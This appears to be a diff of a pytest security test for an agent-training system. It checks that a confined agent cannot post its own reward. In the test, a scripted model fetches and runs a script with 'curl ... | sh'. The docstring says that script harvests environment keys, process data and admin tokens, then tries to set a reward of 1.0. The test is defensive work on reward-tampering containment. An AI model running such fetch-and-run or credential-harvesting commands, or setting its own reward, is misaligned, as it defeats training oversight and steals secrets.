@@ -1,7 +1,7 @@
 """The model cannot set its own reward (issue 18), tried through a real harness.
 
 mini-swe-agent runs as a CLI harness under the local controller (tests/tool_attack.py),
-confined as ``agl.train`` runs agents. The scripted model makes it run ``attack.sh``: with
+confined as ``agl.train`` runs agents. The scripted model makes it run ``ATTACK``: with
 everything in its environment, every process's environment, command line and open files
 it can see, and every admin token or store file it can find, it posts a reward of 1.0
 and ends its attempt as succeeded, with each key it found. The harness's own grade (0.0:
@@ -16,12 +16,13 @@ from pathlib import Path
 
 import pytest
 
-from agl.backends.execution.confine import unavailable
 from agl.backends.execution.local.config import LocalExecutorConfig
 from agl.backends.execution.local.executor import LocalExecutor
 from agl.core.contracts.records import Status
+from agl.sandbox.launch import unavailable
 from agl.testing.fake_vllm import FakeVllm
 from agl.testing.processes import GatewayProcess
+from tests.board import board
 from tests.test_controller import group_final, new_group, running, specs
 from tests.test_harnesses import scripted_tool_call
 from tests.tool_attack import ATTACK
@@ -33,22 +34,16 @@ REPO = Path(__file__).resolve().parent.parent
 def test_a_tool_with_everything_it_can_reach_cannot_set_its_reward(
     gateway: GatewayProcess, fake: FakeVllm, tmp_path: Path
 ) -> None:
-    attack, found = tmp_path / "attack.sh", tmp_path / "found"
-    attack.write_text(ATTACK)
-    workdir = tmp_path / "repo"
-    workdir.mkdir()
-    fake.raw_next = [
-        scripted_tool_call("Let me see.", f"sh {attack} {found}", "call_1"),
-        scripted_tool_call("", "echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT", "call_2"),
-    ]
-    data = {
-        "cwd": str(workdir),
-        "config_dir": str(tmp_path / "mswea"),
-        "trajectory": str(tmp_path / "trajectory.json"),
-    }
     group = new_group()
+    # Its working folder, configuration and trajectory in its own scratch folder: a
+    # confined agent writes nothing of the machine's.
+    data = {"cwd": "/tmp", "config_dir": "/tmp/mswea", "trajectory": "/tmp/trajectory.json"}
 
-    async def main() -> None:
+    async def main(url: str) -> None:
+        fake.raw_next = [
+            scripted_tool_call("Let me see.", f"curl -s {url}/attack.sh | sh -s {url}", "call_1"),
+            scripted_tool_call("", "echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT", "call_2"),
+        ]
         config = LocalExecutorConfig(
             harness=f"command:exec {sys.executable} -m tests.tool_attack",
             run_dir=tmp_path / "run",
@@ -64,9 +59,9 @@ def test_a_tool_with_everything_it_can_reach_cannot_set_its_reward(
             rewards = await client.get_events(rollout.rollout_id, type="reward")
             assert [e.data["value"] for e in rewards] == [0.0]
             assert rollout.report_key is not None and rollout.attempt_key is not None
-            seen = Path(f"{found}.seen").read_bytes()
+            seen = notes["/seen"]
             # The attack ran, found the model key (its OPENAI_API_KEY) and tried it ...
-            lines = found.read_bytes().decode(errors="replace").split("\n")
+            lines = notes["/found"].decode(errors="replace").split("\n")
             tried = [parts for line in lines if len(parts := line.split(" ", 2)) == 3]
             assert rollout.attempt_key.encode() in seen
             assert rollout.attempt_key in {key for _, _, key in tried}
@@ -75,5 +70,7 @@ def test_a_tool_with_everything_it_can_reach_cannot_set_its_reward(
             for secret in (rollout.report_key, gateway.token):
                 assert secret.encode() not in seen
 
-    asyncio.run(main())
+    with board() as (url, notes):
+        notes["/attack.sh"] = ATTACK.encode()
+        asyncio.run(main(url))
     assert len(fake.raw_next) == 0  # the model's two answers were both used
